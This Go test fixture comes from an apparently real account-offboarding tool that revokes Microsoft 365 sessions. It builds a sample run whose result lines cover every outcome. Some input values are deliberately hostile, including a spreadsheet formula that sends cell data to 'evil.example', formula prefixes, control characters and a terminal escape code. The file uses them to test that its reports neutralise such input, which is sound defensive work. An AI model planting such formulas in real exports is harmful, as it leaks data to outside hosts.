package report

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"iter"
	"time"

	"offboard/batch"
)

// at is a time of the run, in a zone that is not UTC: reports must not care.
func at(sec, ms int) time.Time {
	zone := time.FixedZone("CET", 3600)
	return time.Date(2026, 3, 2, 10, 15, sec, ms*int(time.Millisecond)+999, zone)
}

func id(n int) string { return fmt.Sprintf("00000000-0000-4000-8000-%012d", n) }

func fixtureRun() End {
	return End{
		Plan: batch.Plan{
			Run: "20260302-0915-k7", Created: at(0, 0), Version: "v1.0.0",
			Input: "leavers.csv", Digest: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
			Columns: []string{"User name [userPrincipalName] Required", "Last day"},
			Settings: []batch.Setting{
				{Name: "encoding", Value: "UTF-8", Why: "valid throughout"},
				{Name: "user column", Value: "userPrincipalName"},
			},
			Tenant: "contoso.onmicrosoft.com", App: "11111111-2222-4333-8444-555555555555",
			Cloud: "https://graph.microsoft.com", Steps: []batch.Step{batch.Revoke}, Resolve: true, Verify: true,
			Rows: 24, Users: 17, Lines: 27, Accounts: batch.Accounts{External: 1, Synced: 3, Enabled: 12, Privileged: 1},
			Terms: batch.Terms{OSUser: "mona", Host: "adm-7", Approvals: []batch.Approval{{Person: "bob@contoso.com", Key: "SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU"}}},
		},
		PlanSHA256: "60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752",
		Sessions:   []Session{{at(0, 500), "app 11111111-2222-4333-8444-555555555555; mona on adm-7"}, {at(30, 0), "user ada@contoso.com by app 5; ada on adm-8"}},
		State:      "stopped", Reason: "stopped before the end", Ended: at(58, 0), Written: at(59, 0), Skips: 2,
	}
}

// row makes line n of the fixture, with the cells that fixtureMeta names.
func row(n int, upn string, rec batch.Record) batch.Line {
	rec.Seq = n - 2
	return batch.Line{
		Row:    batch.Row{Line: n, Input: upn, UPN: upn, Cells: []string{upn, "2026-03-01"}},
		User:   batch.User{Seq: n - 2, ID: id(n), UPN: upn, Type: "Member", Enabled: true, Stamp: at(0, 0).AddDate(-1, 0, 0)},
		Record: rec,
	}
}

// unnamed makes line n, whose row led to no user.
func unnamed(n int, input string, rec batch.Record) batch.Line {
	return batch.Line{
		Row:    batch.Row{Line: n, Input: input, Cells: []string{input, ""}},
		User:   batch.User{Seq: n - 2},
		Record: rec,
	}
}

// fixture has every outcome, a person named twice, and text that means harm.
func fixture() []batch.Line {
	sent := batch.Record{
		Outcome: batch.Verified, Status: 200, Attempts: 1, SentAt: at(1, 5), SettledAt: at(2, 250),
		After: at(1, 0), RequestID: "5b1e0c5e-8a4e-4b0b-9d5c-0a1b2c3d4e5f/1",
	}
	with := func(change func(*batch.Record)) batch.Record {
		r := sent
		change(&r)
		return r
	}
	refused := func(o batch.Outcome, status int, code, message string) batch.Record {
		return with(func(r *batch.Record) {
			r.Outcome, r.Status, r.Code, r.Message, r.After = o, status, code, message, time.Time{}
		})
	}
	ended := func(o batch.Outcome, reason string) batch.Record {
		return batch.Record{Outcome: o, SettledAt: at(0, 1), Reason: reason}
	}
	guest := row(9, "eve_fabrikam.com#EXT#@contoso.onmicrosoft.com", with(func(r *batch.Record) { r.Outcome = batch.Ineffective }))
	guest.User.Type = "Guest"
	twice := unnamed(18, "GONE@contoso.com", ended(batch.NotFound, "no user has this name"))
	twice.First.Line = 11
	ada := row(3, "ada@contoso.com", sent)
	again := ada
	again.Row = batch.Row{Line: 19, Input: ada.User.ID, ID: ada.User.ID, Cells: []string{ada.User.ID, ""}}
	again.First.Line = 3
	fay := row(8, "fay@contoso.com", with(func(r *batch.Record) {
		r.Outcome, r.Reason = batch.Unverified, "the stamp had not moved by the deadline"
	}))
	fay.Record.After = fay.User.Stamp
	ragged := unnamed(20, "Müller, Ümit", ended(batch.Invalid, "3 cells, the header has 2"))
	ragged.Row.Cells = []string{"Müller", "Ümit", "ada@contoso.com"}
	return []batch.Line{
		ada,
		row(4, "bob@contoso.com", with(func(r *batch.Record) { r.Outcome, r.Throttles, r.After = batch.Revoked, 3, time.Time{} })),
		row(5, "cy@contoso.com", ended(batch.Already, "signed out since 2026-03-01T00:00:00Z")),
		row(6, "dan@contoso.com", ended(batch.Skipped, "last day is 2026-04-01")),
		row(7, "root@contoso.com", ended(batch.Protected, `protected by "breakglass.txt", line 1`)),
		fay,
		guest,
		unnamed(10, "ida?contoso", ended(batch.Invalid, `"ida?contoso" is no user principal name`)),
		unnamed(11, "gone@contoso.com", ended(batch.NotFound, "no user has this name")),
		unnamed(12, "1007", ended(batch.Ambiguous, "2 users have this employee id")),
		row(13, "admin@contoso.com", refused(batch.Denied, 403, "Authorization_RequestDenied", "Insufficient privileges to complete the operation.")),
		row(14, "hal@contoso.com", refused(batch.Failed, 405, "Request_BadRequest", "line one\r\nline two\tand \x00\x1b[31m\u2028more")),
		row(15, "jo@contoso.com", refused(batch.GaveUp, 503, "", "")),
		row(16, "kim@contoso.com", batch.Record{Outcome: batch.Unsettled, Attempts: 1, SentAt: at(3, 999)}),
		row(17, "lee@contoso.com", batch.Record{Outcome: batch.NotSent}),
		twice,
		again,
		ragged,
		unnamed(21, `=HYPERLINK("http://evil.example/?"&A1,"click")`, ended(batch.Invalid, "+1 more; =1+1; \"@SUM(A1)")),
		unnamed(22, "\t-1+1\nnext", ended(batch.Invalid, "'=quoted already")),
		unnamed(23, "", ended(batch.Invalid, "＝full width, 日本語, “quotes” and <b>&amp;</b>")),
		row(24, "o'neil@contoso.com", refused(batch.Failed, 400, "-Odd", "bad \xff byte, back\\slash")),
		row(25, "mia@contoso.com", with(func(r *batch.Record) { r.Outcome, r.After = batch.Accepted, time.Time{} })),
		row(26, "ned@contoso.com", ended(batch.NotPossible, "the password is mastered on premises")),
	}
}

// seq gives the lines, then err if there is one.
func seq(lines []batch.Line, err error) iter.Seq2[batch.Line, error] {
	return func(yield func(batch.Line, error) bool) {
		for _, l := range lines {
			if !yield(l, nil) {
				return
			}
		}
		if err != nil {
			yield(batch.Line{}, err)
		}
	}
}

func fixtureEnd() End {
	e := fixtureRun()
	e.Dir = "out"
	e.Files = []string{"out/report.csv", "out/report.jsonl", "out/retry.csv", "out/run.json", "out/report.sha256"}
	e.Retry = "offboard run out/retry.csv --where 'Site=Bonn'"
	e.Resume = "offboard resume 20260302-0915-k7"
	e.Timing = batch.Timing{
		Started: time.Date(2026, 3, 2, 9, 15, 1, 0, time.UTC), Users: 14, Refused: 3,
		Median: 2100 * time.Millisecond, P95: 151 * time.Second, Last: 2*time.Hour + 5*time.Minute,
		Waits: batch.Waits{Quota: 148 * time.Second, Paused: 27 * time.Second, Interruptions: []batch.Interruption{
			{Kind: batch.Outage, Began: time.Date(2026, 3, 2, 9, 20, 0, 0, time.UTC), Ended: time.Date(2026, 3, 2, 9, 22, 5, 0, time.UTC), Cause: "connection\nrefused"},
			{Kind: batch.Pause, Began: time.Date(2026, 3, 2, 9, 30, 0, 0, time.UTC), Ended: time.Date(2026, 3, 2, 9, 30, 20, 0, time.UTC)},
			{Kind: batch.Pause, Began: time.Date(2026, 3, 2, 9, 40, 0, 0, time.UTC), Ended: time.Date(2026, 3, 2, 9, 40, 7, 0, time.UTC)},
		}},
	}
	for _, l := range fixture() {
		e.Summary.Add(l.Record.Outcome)
		if l.First.Line != 0 {
			e.Summary.AddAgain(l.Record.Outcome, 1)
		}
	}
	return e
}

// one writes one file of the report alone.
func one(name string, w io.Writer, e End, lines iter.Seq2[batch.Line, error]) error {
	out := bufio.NewWriter(w)
	for _, f := range formats {
		if f.name == name {
			add, end := f.begin(out, &e)
			if err := errors.Join(pour(e.Plan, lines, add), end()); err != nil {
				return err
			}
		}
	}
	return out.Flush()
}
